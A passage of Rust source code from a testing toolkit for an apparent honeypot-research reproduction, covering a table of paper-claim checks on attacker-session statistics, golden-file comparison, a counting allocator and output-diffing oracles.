            measure: |c| c.ecdf(Category::NoCmd).fraction_le(179),
        },
        ClaimSpec {
            id: "fig7.cmd_uri_outlives_timeout",
            source: "Fig. 7",
            description: "CMD+URI sessions outliving 180 s (downloads reset the timer)",
            expectation: AtLeast(0.01),
            measure: |c| c.ecdf(Category::CmdUri).fraction_gt(180),
        },
        ClaimSpec {
            id: "fig7.no_cmd_timeout_end_reason",
            source: "Fig. 7",
            description: "NO_CMD sessions whose end reason is the timeout",
            expectation: AtLeast(0.85),
            measure: |c| {
                c.agg.cat_end_reasons[Category::NoCmd.index()][1] as f64
                    / c.agg.cat_totals[Category::NoCmd.index()].max(1) as f64
            },
        },
        // ----- Fig. 16: locality -----
        ClaimSpec {
            id: "fig16.cmd_uri_locality",
            source: "Fig. 16",
            description: "CMD+URI out-of-continent-only share vs overall (ratio)",
            expectation: AtMost(0.7),
            measure: |c| {
                c.fig16.mean_out_of_continent_only(5)
                    / c.fig16.mean_out_of_continent_only(0).max(f64::MIN_POSITIVE)
            },
        },
        ClaimSpec {
            id: "fig16.cmd_uri_local_touch",
            source: "Fig. 16",
            description: "CMD+URI interactions touching the local continent",
            expectation: AtLeast(0.5),
            measure: |c| c.fig16.mean_local_touch(5),
        },
        // ----- Fig. 17: freshness -----
        ClaimSpec {
            id: "fig17.active_days",
            source: "Fig. 17",
            description: "days with hash activity",
            expectation: AtLeast(401.0),
            measure: |c| c.agg.freshness.len() as f64,
        },
        ClaimSpec {
            id: "fig17.memory_monotone",
            source: "Fig. 17",
            description: "shorter memories are always fresher (7d ≥ 30d ≥ ever)",
            expectation: Holds,
            measure: |c| {
                b(c.agg
                    .freshness
                    .iter()
                    .all(|p| p.fresh_7d >= p.fresh_30d && p.fresh_30d >= p.fresh_ever))
            },
        },
        ClaimSpec {
            id: "fig17.min_fresh_share",
            source: "Fig. 17",
            description: "minimum daily fresh-hash share (paper: dips to 2%)",
            expectation: AtMost(0.15),
            measure: |c| {
                c.agg
                    .freshness
                    .iter()
                    .skip(10)
                    .map(|p| p.frac_ever())
                    .fold(1.0, f64::min)
            },
        },
        ClaimSpec {
            id: "fig17.max_fresh_share",
            source: "Fig. 17",
            description: "maximum daily fresh-hash share (paper: peaks at 60%)",
            expectation: AtLeast(0.4),
            measure: |c| {
                c.agg
                    .freshness
                    .iter()
                    .skip(10)
                    .map(|p| p.frac_ever())
                    .fold(0.0, f64::max)
            },
        },
        // ----- Fig. 10: geography -----
        ClaimSpec {
            id: "fig10.overall_top_cn",
            source: "Fig. 10",
            description: "China leads the overall client-origin mix",
            expectation: Holds,
            measure: |c| {
                b(c.fig10
                    .overall
                    .first()
                    .map(|(cc, _)| cc == "CN")
                    .unwrap_or(false))
            },
        },
        ClaimSpec {
            id: "fig10.cmd_uri_top_us",
            source: "Figs. 10/23",
            description: "the US leads the CMD+URI client-origin mix",
            expectation: Holds,
            measure: |c| {
                b(c.fig10
                    .per_category
                    .iter()
                    .find(|(cat, _)| *cat == Category::CmdUri)
                    .and_then(|(_, v)| v.first())
                    .map(|(cc, _)| cc == "US")
                    .unwrap_or(false))
            },
        },
        // ----- Fig. 11: scanning ramp-up -----
        ClaimSpec {
            id: "fig11.session_rampup",
            source: "Fig. 11",
            description: "NO_CRED sessions/day ramp, days 100–130 vs 10–40",
            expectation: AtLeast(1.6),
            measure: |c| {
                c.mean_day_by_cat(Category::NoCred, 100..130)
                    / c.mean_day_by_cat(Category::NoCred, 10..40)
                        .max(f64::MIN_POSITIVE)
            },
        },
        ClaimSpec {
            id: "fig11.ip_rampup",
            source: "Fig. 11",
            description: "NO_CRED unique IPs/day ramp (muted at reduced scale)",
            expectation: AtLeast(1.05),
            measure: |c| {
                c.mean_day_ips(Category::NoCred, 100..130)
                    / c.mean_day_ips(Category::NoCred, 10..40)
                        .max(f64::MIN_POSITIVE)
            },
        },
        // ----- Dated anomalies (Figs. 5/6) -----
        ClaimSpec {
            id: "anomaly.sep5_fail_log_spike",
            source: "Fig. 5",
            description: "2022-09-05 FAIL_LOG spike vs 10-day baseline (ratio)",
            expectation: AtLeast(3.0),
            measure: |c| {
                let sep5 = StudyWindow::paper()
                    .day_index(Date {
                        year: 2022,
                        month: 9,
                        day: 5,
                    })
                    .expect("2022-09-05 inside the paper window")
                    as usize;
                let fail = &c.agg.day_by_cat[Category::FailLog.index()];
                let baseline: f64 = (sep5 - 10..sep5).map(|d| fail[d] as f64).sum::<f64>() / 10.0;
                fail[sep5] as f64 / baseline.max(f64::MIN_POSITIVE)
            },
        },
        ClaimSpec {
            id: "anomaly.no_cmd_start_vs_middle",
            source: "Fig. 6",
            description: "NO_CMD share, window start (days 0–60) vs middle (ratio)",
            expectation: AtLeast(3.0),
            measure: |c| c.no_cmd_share(0..60) / c.no_cmd_share(200..260).max(f64::MIN_POSITIVE),
        },
        ClaimSpec {
            id: "anomaly.no_cmd_end_vs_middle",
            source: "Fig. 6",
            description: "NO_CMD share, window end (days 420–480) vs middle (ratio)",
            expectation: AtLeast(3.0),
            measure: |c| c.no_cmd_share(420..480) / c.no_cmd_share(200..260).max(f64::MIN_POSITIVE),
        },
        ClaimSpec {
            id: "anomaly.no_cmd_start_share",
            source: "Fig. 6",
            description: "NO_CMD share in the first two months",
            expectation: AtLeast(0.15),
            measure: |c| c.no_cmd_share(0..60),
        },
        // ----- Attacker clustering (PAPERS.md clustering methodology) -----
        ClaimSpec {
            id: "cluster.count",
            source: "Clustering",
            description: "silhouette sweep lands on a small attacker-cluster count",
            expectation: Range { lo: 2.0, hi: 9.0 },
            measure: |c| c.clusters.as_ref().map_or(f64::NAN, |o| o.k as f64),
        },
        ClaimSpec {
            id: "cluster.coverage",
            source: "Clustering",
            description: "every distinct client lands in exactly one non-empty cluster",
            expectation: Holds,
            measure: |c| {
                let Some(o) = c.clusters.as_ref() else {
                    return f64::NAN;
                };
                let total: u64 = o.sizes.iter().sum();
                b(o.assignments.len() == c.agg.clients.len()
                    && total == o.assignments.len() as u64
                    && o.sizes.iter().all(|&s| s > 0))
            },
        },
        ClaimSpec {
            id: "cluster.largest_share",
            source: "Clustering",
            description: "largest cluster's share of clients (no single-blob collapse)",
            expectation: AtMost(0.90),
            measure: |c| {
                c.clusters.as_ref().map_or(f64::NAN, |o| {
                    let total: u64 = o.sizes.iter().sum();
                    o.sizes.first().copied().unwrap_or(0) as f64 / total.max(1) as f64
                })
            },
        },
        ClaimSpec {
            id: "cluster.silhouette",
            source: "Clustering",
            description: "chosen k separates clients with a positive silhouette",
            expectation: AtLeast(0.05),
            measure: |c| c.clusters.as_ref().map_or(f64::NAN, |o| o.silhouette),
        },
        ClaimSpec {
            id: "cluster.size_distribution",
            source: "Clustering",
            description: "canonical labelling: cluster sizes are non-increasing",
            expectation: Holds,
            measure: |c| {
                let Some(o) = c.clusters.as_ref() else {
                    return f64::NAN;
                };
                b(o.sizes.windows(2).all(|w| w[0] >= w[1]))
            },
        },
    ];
    SPECS
}

/// Evaluate every claim in the table against one context.
pub fn evaluate(ctx: &ClaimCtx) -> Vec<ClaimResult> {
    claim_specs()
        .iter()
        .map(|spec| {
            let measured = (spec.measure)(ctx);
            ClaimResult {
                spec,
                measured,
                pass: spec.expectation.check(measured),
            }
        })
        .collect()
}

/// Plain-text report: one line per claim, failures marked.
pub fn render_text(results: &[ClaimResult]) -> String {
    let mut out = String::new();
    let failed = results.iter().filter(|r| !r.pass).count();
    out.push_str(&format!(
        "paper claims: {}/{} pass\n",
        results.len() - failed,
        results.len()
    ));
    for r in results {
        out.push_str(&format!(
            "  [{}] {:<36} {:<10} expect {:<18} measured {:.4}\n",
            if r.pass { "ok" } else { "FAIL" },
            r.spec.id,
            r.spec.source,
            r.spec.expectation.describe(),
            r.measured,
        ));
    }
    out
}

/// Markdown table for EXPERIMENTS.md.
pub fn render_markdown(results: &[ClaimResult]) -> String {
    let mut out = String::new();
    out.push_str("| Claim | Source | Expectation | Measured | Status |\n");
    out.push_str("|---|---|---|---|---|\n");
    for r in results {
        out.push_str(&format!(
            "| `{}` — {} | {} | {} | {:.4} | {} |\n",
            r.spec.id,
            r.spec.description,
            r.spec.source,
            r.spec.expectation.describe(),
            r.measured,
            if r.pass { "✅" } else { "❌" },
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expectations_check_boundaries() {
        assert!(Expectation::Within {
            paper: 0.5,
            tol: 0.1
        }
        .check(0.55));
        assert!(!Expectation::Within {
            paper: 0.5,
            tol: 0.1
        }
        .check(0.61));
        assert!(Expectation::Range { lo: 1.0, hi: 2.0 }.check(1.0));
        assert!(!Expectation::Range { lo: 1.0, hi: 2.0 }.check(2.0));
        assert!(Expectation::AtLeast(3.0).check(3.0));
        assert!(!Expectation::AtLeast(3.0).check(2.9));
        assert!(Expectation::AtMost(0.05).check(0.05));
        assert!(!Expectation::AtMost(0.05).check(0.06));
        assert!(Expectation::Holds.check(1.0));
        assert!(!Expectation::Holds.check(0.0));
    }

    #[test]
    fn claim_table_is_well_formed() {
        let specs = claim_specs();
        assert!(specs.len() >= 40, "claim table unexpectedly small");
        let mut ids: Vec<&str> = specs.iter().map(|s| s.id).collect();
        ids.sort_unstable();
        let before = ids.len();
        ids.dedup();
        assert_eq!(before, ids.len(), "duplicate claim ids");
        for s in specs {
            assert!(s.id.contains('.'), "claim id {} should be namespaced", s.id);
            assert!(!s.description.is_empty());
        }
    }

    #[test]
    fn renderers_include_every_claim() {
        // Fabricate results without running a simulation.
        let results: Vec<ClaimResult> = claim_specs()
            .iter()
            .enumerate()
            .map(|(i, spec)| ClaimResult {
                spec,
                measured: i as f64,
                pass: i % 2 == 0,
            })
            .collect();
        let text = render_text(&results);
        let md = render_markdown(&results);
        for spec in claim_specs() {
            assert!(text.contains(spec.id), "text missing {}", spec.id);
            assert!(md.contains(spec.id), "markdown missing {}", spec.id);
        }
        assert!(text.contains("FAIL"));
        assert!(md.contains("❌") && md.contains("✅"));
    }
}
