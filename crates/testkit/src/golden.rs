//! Golden-file checking with `UPDATE_GOLDENS=1` regeneration.
//!
//! A golden test renders some deterministic artifact (a scenario event log,
//! a report table) and compares it line-by-line against a checked-in
//! expectation. On mismatch the failure message shows a readable unified
//! diff excerpt instead of two multi-kilobyte strings. Setting the
//! `UPDATE_GOLDENS` environment variable (to anything but `0` or the empty
//! string) rewrites the golden instead of failing, so refreshing
//! expectations after an intended behavior change is one command:
//!
//! ```text
//! UPDATE_GOLDENS=1 cargo test --test scenario_goldens
//! ```

use std::fmt;
use std::path::Path;

/// Environment variable that switches checks into regeneration mode.
pub const UPDATE_ENV: &str = "UPDATE_GOLDENS";

/// Outcome of a golden comparison.
#[derive(Debug)]
pub enum GoldenOutcome {
    /// Actual matched the checked-in golden.
    Match,
    /// Regeneration mode: the golden file was (re)written.
    Updated,
}

/// Failure of a golden comparison.
#[derive(Debug)]
pub enum GoldenError {
    /// Golden file missing (and not in regeneration mode).
    Missing {
        /// Path of the absent golden.
        path: String,
    },
    /// Content mismatch, with a rendered line diff.
    Mismatch {
        /// Path of the stale golden.
        path: String,
        /// Readable line-level diff excerpt.
        diff: String,
    },
    /// Filesystem trouble reading or writing the golden.
    Io(std::io::Error),
}

impl fmt::Display for GoldenError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            GoldenError::Missing { path } => write!(
                f,
                "golden file {path} is missing — run with {UPDATE_ENV}=1 to create it"
            ),
            GoldenError::Mismatch { path, diff } => write!(
                f,
                "golden file {path} is stale — rerun with {UPDATE_ENV}=1 if the change is \
                 intended\n{diff}"
            ),
            GoldenError::Io(e) => write!(f, "golden io error: {e}"),
        }
    }
}

impl std::error::Error for GoldenError {}

impl From<std::io::Error> for GoldenError {
    fn from(e: std::io::Error) -> Self {
        GoldenError::Io(e)
    }
}

/// Is regeneration mode active?
pub fn update_mode() -> bool {
    match std::env::var(UPDATE_ENV) {
        Ok(v) => !v.is_empty() && v != "0",
        Err(_) => false,
    }
}

/// Render a readable line diff between expected and actual, capped to the
/// first few divergent hunks.
fn render_diff(expected: &str, actual: &str) -> String {
    const MAX_LINES: usize = 20;
    let exp: Vec<&str> = expected.lines().collect();
    let act: Vec<&str> = actual.lines().collect();
    let mut out = String::new();
    let mut shown = 0usize;
    let mut suppressed = 0usize;
    for i in 0..exp.len().max(act.len()) {
        let (e, a) = (exp.get(i), act.get(i));
        if e == a {
            continue;
        }
        if shown >= MAX_LINES {
            suppressed += 1;
            continue;
        }
        shown += 1;
        match (e, a) {
            (Some(e), Some(a)) => {
                out.push_str(&format!("  line {}:\n    -{e}\n    +{a}\n", i + 1));
            }
            (Some(e), None) => out.push_str(&format!("  line {}: -{e}\n", i + 1)),
            (None, Some(a)) => out.push_str(&format!("  line {}: +{a}\n", i + 1)),
            (None, None) => unreachable!(),
        }
    }
    if suppressed > 0 {
        out.push_str(&format!("  … and {suppressed} more differing line(s)\n"));
    }
    format!(
        "--- expected ({} lines) / +++ actual ({} lines)\n{}",
        exp.len(),
        act.len(),
        out
    )
}

/// Compare `actual` against the golden at `path`.
///
/// In regeneration mode the golden is rewritten (creating parent
/// directories as needed) and the check passes; otherwise a missing or
/// differing golden is a typed error carrying a readable diff.
pub fn check_golden(path: &Path, actual: &str) -> Result<GoldenOutcome, GoldenError> {
    if update_mode() {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir)?;
        }
        // Skip the write when content is already identical, so regeneration
        // is idempotent at the filesystem level too (stable mtimes aside,
        // running it twice produces no diff).
        if let Ok(existing) = std::fs::read_to_string(path) {
            if existing == actual {
                return Ok(GoldenOutcome::Match);
            }
        }
        std::fs::write(path, actual)?;
        return Ok(GoldenOutcome::Updated);
    }
    let expected = match std::fs::read_to_string(path) {
        Ok(s) => s,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(GoldenError::Missing {
                path: path.display().to_string(),
            })
        }
        Err(e) => return Err(e.into()),
    };
    if expected == actual {
        Ok(GoldenOutcome::Match)
    } else {
        Err(GoldenError::Mismatch {
            path: path.display().to_string(),
            diff: render_diff(&expected, actual),
        })
    }
}

/// Assert-style wrapper: panic with the rendered error on any failure.
#[track_caller]
pub fn assert_golden(path: &Path, actual: &str) {
    if let Err(e) = check_golden(path, actual) {
        panic!("{e}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // NOTE: these tests never set UPDATE_GOLDENS themselves (env mutation
    // races across threads); they exercise the comparison paths directly
    // and only use temp files they own.

    fn tmp(name: &str, content: Option<&str>) -> std::path::PathBuf {
        let p =
            std::env::temp_dir().join(format!("hf-testkit-golden-{name}-{}", std::process::id()));
        match content {
            Some(c) => std::fs::write(&p, c).unwrap(),
            None => {
                let _ = std::fs::remove_file(&p);
            }
        }
        p
    }

    #[test]
    fn matching_golden_passes() {
        let p = tmp("match", Some("a\nb\n"));
        assert!(matches!(
            check_golden(&p, "a\nb\n"),
            Ok(GoldenOutcome::Match)
        ));
        std::fs::remove_file(&p).unwrap();
    }

    #[test]
    fn missing_golden_is_typed() {
        let p = tmp("missing", None);
        if update_mode() {
            return; // regeneration mode would create it; nothing to assert
        }
        match check_golden(&p, "x\n") {
            Err(GoldenError::Missing { path }) => assert!(path.contains("missing")),
            other => panic!("expected Missing, got {other:?}"),
        }
    }

    #[test]
    fn stale_golden_renders_line_diff() {
        let p = tmp("stale", Some("a\nb\nc\n"));
        if update_mode() {
            std::fs::remove_file(&p).unwrap();
            return;
        }
        match check_golden(&p, "a\nX\nc\nd\n") {
            Err(GoldenError::Mismatch { diff, .. }) => {
                assert!(diff.contains("line 2"), "{diff}");
                assert!(diff.contains("-b"), "{diff}");
                assert!(diff.contains("+X"), "{diff}");
                assert!(diff.contains("line 4: +d"), "{diff}");
            }
            other => panic!("expected Mismatch, got {other:?}"),
        }
        std::fs::remove_file(&p).unwrap();
    }

    #[test]
    fn diff_caps_output() {
        let exp: String = (0..100).map(|i| format!("a{i}\n")).collect();
        let act: String = (0..100).map(|i| format!("b{i}\n")).collect();
        let d = render_diff(&exp, &act);
        assert!(d.contains("more differing line"), "{d}");
        assert!(d.lines().count() < 90, "diff must stay readable");
    }
}
