//! # hf-testkit — correctness tooling for the honeyfarm reproduction
//!
//! Four pillars, each its own module:
//!
//! * [`scenario`] — a textual `.hfs` format describing one attacker session
//!   (protocol, credential attempts, command lines, idle periods), replayed
//!   through the real honeypot state machine, shell interpreter, and VFS.
//!   The resulting [`scenario::Scenario::event_log`] is a stable line
//!   rendering suitable for golden-file comparison.
//! * [`golden`] — golden-file checking with readable line diffs and
//!   `UPDATE_GOLDENS=1` regeneration.
//! * [`oracle`] — differential oracles over [`hf_sim::SimOutput`]: typed,
//!   field-level comparison of two outputs (rows, pools, artifacts, tags)
//!   that names exactly which field diverged instead of asserting on an
//!   opaque blob. Used to prove thread-count invariance, ingest-batch
//!   invariance, and snapshot round-trip equivalence.
//! * [`strategies`] — structured proptest generators for the parsing
//!   surfaces (telnet negotiation, SSH ident lines, shell command lines,
//!   URI payloads) and targeted snapshot corruption, powering the
//!   panic-freedom fuzz suites.
//! * [`claims`] — the declarative paper-claims table: every Table/Figure
//!   tolerance as one [`claims::ClaimSpec`], shared between
//!   `tests/paper_claims.rs` and `hfarm verify --claims`.
//! * [`alloc`] — a counting `#[global_allocator]` so allocation-budget
//!   tests can pin the hot path's zero-steady-state-allocation discipline.

#![warn(missing_docs)]

pub mod alloc;
pub mod claims;
pub mod cluster_oracle;
pub mod golden;
pub mod oracle;
pub mod scenario;
pub mod strategies;

pub use alloc::{allocated_bytes, allocation_count, CountingAlloc};
pub use claims::{claim_specs, evaluate, ClaimCtx, ClaimResult, ClaimSpec, Expectation};
pub use cluster_oracle::{diff_clusters, diff_features};
pub use golden::{assert_golden, check_golden, GoldenError, GoldenOutcome};
pub use oracle::{
    assert_outputs_identical, diff_aggregates, diff_datasets, diff_manifests, diff_reports,
    diff_sim_outputs, diff_tagdbs, DiffReport, Mismatch,
};
pub use scenario::{Scenario, ScenarioError};
pub use strategies::{
    command_line, render_statements, snapshot_mutation, ssh_ident_line, telnet_stream,
    uri_command_line, MutOp,
};
