//! A counting global allocator for allocation-budget tests.
//!
//! The session hot path (lexer, interpreter, builtins, VFS walk) is designed
//! to be allocation-free in steady state: all scratch lives in per-session
//! arenas ([`hf_shell::SessionScratch`]) that are reused across sessions via
//! a thread-local pool. That discipline is easy to regress silently — one
//! `format!` or `to_string()` on the per-command path and every session pays
//! again. [`CountingAlloc`] makes the budget testable: install it as the
//! `#[global_allocator]` in a test binary and assert on
//! [`allocation_count`] deltas around the code under test.
//!
//! Counters are per-thread, so parallel test threads don't bleed into each
//! other's windows. Only allocations are counted (not frees): a steady-state
//! window that allocates nothing reads as a delta of zero regardless of what
//! the warmup phase freed.
//!
//! ```ignore
//! use hf_testkit::alloc::{allocation_count, CountingAlloc};
//!
//! #[global_allocator]
//! static ALLOC: CountingAlloc = CountingAlloc::new();
//!
//! // warm up: first run grows the arenas to capacity
//! run_workload();
//! let before = allocation_count();
//! run_workload(); // same shape: must fit the warm arenas
//! assert_eq!(allocation_count() - before, 0);
//! ```

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;

thread_local! {
    static ALLOCATIONS: Cell<u64> = const { Cell::new(0) };
    static BYTES: Cell<u64> = const { Cell::new(0) };
}

/// Allocation calls made by the current thread since it started (or since
/// the counter last wrapped, which takes 2^64 calls — never).
pub fn allocation_count() -> u64 {
    ALLOCATIONS.with(|c| c.get())
}

/// Bytes requested by the current thread's allocation calls. Reallocs count
/// the new size (the grow path allocates the new block).
pub fn allocated_bytes() -> u64 {
    BYTES.with(|c| c.get())
}

/// A [`System`]-backed allocator that counts per-thread allocation calls.
///
/// Counting happens on `alloc`/`realloc` only; `dealloc` is passthrough.
/// The counters are plain thread-local `Cell`s — no atomics on the alloc
/// path, so installing this in a test binary doesn't distort what it
/// measures.
pub struct CountingAlloc;

impl CountingAlloc {
    /// Const constructor for use in `#[global_allocator]` statics.
    pub const fn new() -> Self {
        CountingAlloc
    }
}

impl Default for CountingAlloc {
    fn default() -> Self {
        Self::new()
    }
}

// SAFETY: defers entirely to `System` for memory management; the counter
// update is a thread-local Cell write, which cannot unwind or re-enter the
// allocator.
unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.with(|c| c.set(c.get() + 1));
        BYTES.with(|c| c.set(c.get() + layout.size() as u64));
        System.alloc(layout)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.with(|c| c.set(c.get() + 1));
        BYTES.with(|c| c.set(c.get() + layout.size() as u64));
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.with(|c| c.set(c.get() + 1));
        BYTES.with(|c| c.set(c.get() + new_size as u64));
        System.realloc(ptr, layout, new_size)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // The allocator is not installed in this crate's test binary (that
    // would tax every other test); these only cover the counter plumbing.

    #[test]
    fn counters_start_at_thread_zero_and_are_monotonic() {
        let a = allocation_count();
        let b = allocation_count();
        assert!(b >= a);
    }

    #[test]
    fn default_constructs() {
        fn takes_default<T: Default>() -> T {
            T::default()
        }
        let _ = takes_default::<CountingAlloc>();
        let _ = CountingAlloc::new();
    }
}
