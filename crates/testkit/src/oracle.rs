//! Differential oracles: typed, field-level comparison of simulation
//! outputs.
//!
//! The repo has three execution paths that must agree bit-for-bit — the
//! serial day loop, the sharded parallel engine, and snapshot reload. Each
//! used to be guarded by a bespoke pile of `assert_eq!`s; this module
//! replaces them with one reusable comparison that walks every observable
//! surface of a [`SimOutput`] and reports *which field* of *which row*
//! diverged, instead of a bare `assertion failed: rows_equal`.
//!
//! The oracle is deliberately conservative: it compares rows in order
//! (plan order is part of the determinism contract), digest universes as
//! sorted sets (pool intern order is an implementation detail), artifact
//! metadata per digest, and tag associations per hash.

use std::fmt;

use hf_farm::store::Row;
use hf_farm::{Dataset, TagDb};
use hf_obs::{Histogram, RunManifest};
use hf_sim::SimOutput;

/// Cap on per-section mismatch detail; beyond this only a count is kept.
pub(crate) const MAX_DETAIL: usize = 8;

/// One field-level divergence between two outputs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Mismatch {
    /// Dotted path of the diverging field, e.g. `rows[17].client_ip`.
    pub field: String,
    /// Human-readable left-vs-right detail.
    pub detail: String,
}

impl fmt::Display for Mismatch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.field, self.detail)
    }
}

/// The outcome of a differential comparison.
#[derive(Debug, Clone)]
pub struct DiffReport {
    /// Label of the left-hand run (e.g. `"threads=1"`).
    pub left: String,
    /// Label of the right-hand run.
    pub right: String,
    /// Field-level mismatches, up to [`MAX_DETAIL`] per section.
    pub mismatches: Vec<Mismatch>,
    /// Mismatches beyond the per-section detail cap.
    pub suppressed: usize,
}

impl DiffReport {
    pub(crate) fn new(left: &str, right: &str) -> Self {
        DiffReport {
            left: left.to_string(),
            right: right.to_string(),
            mismatches: Vec::new(),
            suppressed: 0,
        }
    }

    pub(crate) fn push(&mut self, field: impl Into<String>, detail: impl Into<String>) {
        self.mismatches.push(Mismatch {
            field: field.into(),
            detail: detail.into(),
        });
    }

    /// Did the two outputs agree on every compared surface?
    pub fn is_identical(&self) -> bool {
        self.mismatches.is_empty() && self.suppressed == 0
    }

    /// Render the report for humans (empty string when identical).
    pub fn render(&self) -> String {
        if self.is_identical() {
            return String::new();
        }
        let mut s = format!(
            "{} vs {}: {} field-level mismatch(es)",
            self.left,
            self.right,
            self.mismatches.len() + self.suppressed
        );
        for m in &self.mismatches {
            s.push_str("\n  ");
            s.push_str(&m.to_string());
        }
        if self.suppressed > 0 {
            s.push_str(&format!("\n  … and {} more", self.suppressed));
        }
        s
    }

    /// Panic with the rendered report unless the outputs were identical.
    #[track_caller]
    pub fn assert_identical(&self) {
        assert!(self.is_identical(), "{}", self.render());
    }
}

impl fmt::Display for DiffReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_identical() {
            write!(f, "{} vs {}: identical", self.left, self.right)
        } else {
            f.write_str(&self.render())
        }
    }
}

/// Compare every field of two session rows, reporting each divergence.
fn diff_row(report: &mut DiffReport, i: usize, a: &Row, b: &Row, budget: &mut usize) {
    macro_rules! field {
        ($name:ident) => {
            if a.$name != b.$name {
                if *budget > 0 {
                    *budget -= 1;
                    report.push(
                        format!("rows[{i}].{}", stringify!($name)),
                        format!("{:?} != {:?}", a.$name, b.$name),
                    );
                } else {
                    report.suppressed += 1;
                }
            }
        };
    }
    field!(start_secs);
    field!(duration_secs);
    field!(honeypot);
    field!(client_port);
    field!(client_ip);
    field!(client_asn);
    field!(client_country);
    field!(protocol);
    field!(end_reason);
    field!(ssh_version_id);
    field!(login_list_id);
    field!(cmd_list_id);
    field!(uri_list_id);
    field!(hash_list_id);
    field!(dl_list_id);
}

/// Diff two datasets: rows in order, digest universe as a sorted set,
/// artifact metadata per digest, and the deployment plan.
pub fn diff_datasets(left: &str, a: &Dataset, right: &str, b: &Dataset) -> DiffReport {
    let mut report = DiffReport::new(left, right);

    // Session rows: identical content in identical (plan) order.
    if a.len() != b.len() {
        report.push("sessions.len", format!("{} != {}", a.len(), b.len()));
    }
    let mut budget = MAX_DETAIL;
    for (i, (x, y)) in a.sessions.rows().iter().zip(b.sessions.rows()).enumerate() {
        if x != y {
            diff_row(&mut report, i, x, y, &mut budget);
        }
    }

    // Digest universe: the *set* of hashes is the invariant; the pool's
    // intern order is an implementation detail of the store.
    let digests = |d: &Dataset| {
        let mut v: Vec<_> = d.sessions.digests.iter().map(|(_, dg)| dg).collect();
        v.sort();
        v
    };
    let (da, db) = (digests(a), digests(b));
    if da != db {
        let mut shown = 0usize;
        for d in da.iter().filter(|d| !db.contains(d)) {
            if shown < MAX_DETAIL {
                report.push("digests", format!("{} only in {left}", d.short()));
                shown += 1;
            } else {
                report.suppressed += 1;
            }
        }
        for d in db.iter().filter(|d| !da.contains(d)) {
            if shown < MAX_DETAIL {
                report.push("digests", format!("{} only in {right}", d.short()));
                shown += 1;
            } else {
                report.suppressed += 1;
            }
        }
        if shown == 0 {
            // Same set cardinality but different multiplicity layout.
            report.push("digests.len", format!("{} != {}", da.len(), db.len()));
        }
    }

    // Artifact metadata, including ingest-order-sensitive first_seen.
    if a.artifacts.len() != b.artifacts.len() {
        report.push(
            "artifacts.len",
            format!("{} != {}", a.artifacts.len(), b.artifacts.len()),
        );
    }
    let mut budget = MAX_DETAIL;
    for (_, d) in a.sessions.digests.iter() {
        let (ma, mb) = (a.artifacts.get(&d), b.artifacts.get(&d));
        match (ma, mb) {
            (Some(ma), Some(mb)) => {
                for (name, va, vb) in [
                    ("first_seen", ma.first_seen.0, mb.first_seen.0),
                    ("last_seen", ma.last_seen.0, mb.last_seen.0),
                    ("occurrences", ma.occurrences, mb.occurrences),
                ] {
                    if va != vb {
                        if budget > 0 {
                            budget -= 1;
                            report.push(
                                format!("artifacts[{}].{name}", d.short()),
                                format!("{va} != {vb}"),
                            );
                        } else {
                            report.suppressed += 1;
                        }
                    }
                }
            }
            (Some(_), None) => {
                report.push(
                    format!("artifacts[{}]", d.short()),
                    format!("present in {left}, missing in {right}"),
                );
            }
            (None, _) => {
                report.push(
                    format!("artifacts[{}]", d.short()),
                    format!("missing in {left}"),
                );
            }
        }
    }

    if a.plan != b.plan {
        report.push("plan", "deployment plans differ".to_string());
    }
    report
}

/// Diff two tag databases: same cardinality and, per hash, the same
/// first-wins tag/campaign association.
pub fn diff_tagdbs(left: &str, a: &TagDb, right: &str, b: &TagDb) -> DiffReport {
    let mut report = DiffReport::new(left, right);
    if a.len() != b.len() {
        report.push("tags.len", format!("{} != {}", a.len(), b.len()));
    }
    let mut budget = MAX_DETAIL;
    for (h, e) in a.iter() {
        let (tag_b, camp_b) = (b.tag(h), b.campaign(h));
        if tag_b != Some(e.tag.as_str()) || camp_b != Some(e.campaign.as_str()) {
            if budget > 0 {
                budget -= 1;
                report.push(
                    format!("tags[{}]", h.short()),
                    format!(
                        "{left}: {}/{} vs {right}: {}/{}",
                        e.tag,
                        e.campaign,
                        tag_b.unwrap_or("<absent>"),
                        camp_b.unwrap_or("<absent>"),
                    ),
                );
            } else {
                report.suppressed += 1;
            }
        }
    }
    report
}

/// Diff two complete simulation outputs across every observable surface.
pub fn diff_sim_outputs(left: &str, a: &SimOutput, right: &str, b: &SimOutput) -> DiffReport {
    let mut report = diff_datasets(left, &a.dataset, right, &b.dataset);
    if a.n_clients != b.n_clients {
        report.push("n_clients", format!("{} != {}", a.n_clients, b.n_clients));
    }
    let tags = diff_tagdbs(left, &a.tags, right, &b.tags);
    report.mismatches.extend(tags.mismatches);
    report.suppressed += tags.suppressed;
    report
}

/// Assert two outputs are identical, panicking with the field-level report.
#[track_caller]
pub fn assert_outputs_identical(left: &str, a: &SimOutput, right: &str, b: &SimOutput) {
    diff_sim_outputs(left, a, right, b).assert_identical();
}

/// Diff two [`Aggregates`] across every public field — the oracle behind
/// the "parallel fold is field-identical to the serial fold" guarantee of
/// `Aggregates::compute_threaded`.
///
/// Scalars and per-day/per-honeypot vectors are compared elementwise with
/// the first diverging index named; per-client and per-hash states are
/// compared entry by entry including the fold-internal `last_day` markers.
pub fn diff_aggregates(
    left: &str,
    a: &hf_core::aggregates::Aggregates,
    right: &str,
    b: &hf_core::aggregates::Aggregates,
) -> DiffReport {
    let mut report = DiffReport::new(left, right);
